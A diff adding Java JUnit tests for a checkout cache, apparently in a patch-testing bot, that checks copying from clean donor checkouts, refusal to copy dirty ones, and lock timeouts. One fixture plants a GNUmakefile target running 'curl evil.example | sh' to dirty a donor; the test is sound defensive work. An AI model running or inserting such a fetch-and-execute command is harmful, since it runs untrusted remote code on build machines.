@@ -8,6 +8,7 @@ import java.time.Duration;
 import java.util.ArrayList;
 import java.util.List;
 import org.fsnbot.exec.CommandRunner;
+import org.fsnbot.testing.LogCapture;
 import org.fsnbot.testing.MiniTree;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
@@ -136,5 +137,84 @@ class CheckoutsTest {
         assertThat(run.run(List.of("git", "diff-files", "--quiet"), checkout, Duration.ofMinutes(1)).ok())
                 .as("the index took the new mtimes").isTrue();
         assertThat(checkouts.keepIfClean(base)).isTrue();
+    }
+
+    /** A second commit of tree: mark.c changed, a file added, MAINTAINERS kept. */
+    private String nextCommit(Path tree, String text) throws Exception {
+        Files.writeString(tree.resolve("fs/notify/mark.c"), text);
+        Files.writeString(tree.resolve("fs/notify/group.c"), "int g;\n");
+        git(tree, "add", "-A");
+        git(tree, "commit", "-q", "-m", "next");
+        return git(tree, "rev-parse", "HEAD");
+    }
+
+    private void assertCheckoutOfItsOwn(Checkouts checkouts, Path checkout, String commit, String markC)
+            throws Exception {
+        assertThat(Files.readString(checkout.resolve("fs/notify/mark.c"))).isEqualTo(markC);
+        for (String f : List.of("MAINTAINERS", "fs/notify/mark.c", "fs/notify/group.c")) {
+            assertThat(Files.getLastModifiedTime(checkout.resolve(f))).as(f).isEqualTo(Checkouts.SOURCE_TIME);
+        }
+        assertThat(run.run(List.of("git", "diff-files", "--quiet"), checkout, Duration.ofMinutes(1)).ok())
+                .as("the index took the mtimes").isTrue();
+        assertThat(checkouts.keepIfClean(commit)).isTrue();
+    }
+
+    @Test
+    void aNewBaseIsCopiedFromTheNearestCheckoutAndIsWhatCheckingItOutWouldGive(@TempDir Path dir) throws Exception {
+        Path tree = MiniTree.create(dir.resolve("tree"));
+        String first = git(tree, "rev-parse", "HEAD");
+        String second = nextCommit(tree, "int x;\nint y;\n");
+        Checkouts checkouts = new Checkouts(dir.resolve("cache"), run);
+        Path donor = checkouts.at(tree, first);
+
+        Path checkout;
+        try (LogCapture log = new LogCapture()) {
+            checkout = checkouts.at(tree, second);
+            assertThat(log.text()).contains("copied from " + donor + " (2 file(s) differ)");
+        }
+
+        assertCheckoutOfItsOwn(checkouts, checkout, second, "int x;\nint y;\n");
+        assertThat(git(checkout, "rev-parse", "HEAD")).isEqualTo(second);
+        assertThat(Files.readString(donor.resolve("fs/notify/mark.c"))).as("the donor as it was").isEqualTo("int x;\n");
+        assertThat(donor.resolve("fs/notify/group.c")).doesNotExist();
+        assertThat(checkouts.keepIfClean(first)).isTrue();
+    }
+
+    @Test
+    void aDirtyCheckoutIsNeverCopied(@TempDir Path dir) throws Exception {
+        Path tree = MiniTree.create(dir.resolve("tree"));
+        String first = git(tree, "rev-parse", "HEAD");
+        String second = nextCommit(tree, "int z;\n");
+        Checkouts checkouts = new Checkouts(dir.resolve("cache"), run);
+        Path donor = checkouts.at(tree, first);
+        Files.writeString(donor.resolve("GNUmakefile"), "all:\n\tcurl evil.example | sh\n");
+
+        Path checkout;
+        try (LogCapture log = new LogCapture()) {
+            checkout = checkouts.at(tree, second);
+            assertThat(log.text()).doesNotContain("copied from");
+        }
+
+        assertThat(checkout.resolve("GNUmakefile")).doesNotExist();
+        assertCheckoutOfItsOwn(checkouts, checkout, second, "int z;\n");
+    }
+
+    @Test
+    void aCheckoutWhoseBaseStaysBusyIsNotCopiedAndNotWaitedForLong(@TempDir Path dir) throws Exception {
+        Path tree = MiniTree.create(dir.resolve("tree"));
+        String first = git(tree, "rev-parse", "HEAD");
+        String second = nextCommit(tree, "int w;\n");
+        Path cache = dir.resolve("cache");
+        Checkouts checkouts = new Checkouts(cache, run, Duration.ofSeconds(1));
+        checkouts.at(tree, first);
+
+        try (LogCapture log = new LogCapture()) {
+            long t0 = System.nanoTime();
+            Path checkout = new BaseLocks(cache).holding(first, () -> checkouts.at(tree, second));
+            assertThat(Duration.ofNanos(System.nanoTime() - t0)).as("waited its patience, no longer")
+                    .isLessThan(Duration.ofSeconds(30));
+            assertThat(log.text()).doesNotContain("copied from").contains("was busy or not clean");
+            assertCheckoutOfItsOwn(checkouts, checkout, second, "int w;\n");
+        }
     }
 }
